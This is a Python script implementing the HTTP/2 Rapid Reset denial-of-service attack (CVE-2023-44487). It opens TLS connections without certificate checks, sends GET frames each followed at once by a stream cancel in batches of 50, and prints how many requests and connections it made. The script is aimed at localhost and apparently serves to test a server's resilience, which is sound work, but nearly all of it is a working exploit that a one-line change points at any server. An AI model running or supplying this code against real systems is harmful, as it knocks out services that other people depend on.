"""Opens HTTP/2 connections and cancels each request as soon as it is made (CVE-2023-44487).

Usage: rapid_reset.py PORT SECONDS. Prints JSON: how many requests were sent, and over how many connections.
"""

import json
import socket
import ssl
import sys
import time

port, seconds = int(sys.argv[1]), float(sys.argv[2])
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def get(stream):
    # Indexed fields and literals of RFC 7541: GET, https, the host, the path.
    block = bytes([0x82, 0x87, 0x84, 0x01, 9]) + b"localhost"
    return frame(0x1, 0x5, stream, block) + frame(0x3, 0, stream, (8).to_bytes(4, "big"))


requests = connections = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as tcp, context.wrap_socket(tcp) as tls:
            connections += 1
            tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b""))
            stream = 1
            while time.monotonic() < end:
                tls.sendall(b"".join(get(stream + 2 * each) for each in range(50)))
                stream += 100
                requests += 50
    except OSError:
        pass
print(json.dumps({"requests": requests, "connections": connections}))
